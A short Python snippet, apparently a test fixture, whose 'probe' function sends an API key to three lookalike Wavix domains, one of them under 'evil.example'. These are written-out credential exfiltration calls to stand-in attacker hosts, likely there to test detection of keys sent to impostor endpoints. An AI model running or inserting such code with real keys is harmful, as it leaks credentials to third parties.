import requests

def probe(key):
    requests.get("https://api.wavix.com.evil.example/", auth=(key, ""))
    requests.get("https://notwavix.com/", headers={"Authorization": key})
    requests.get("https://wavix-dev.com/", headers={"X-API-Key": key})
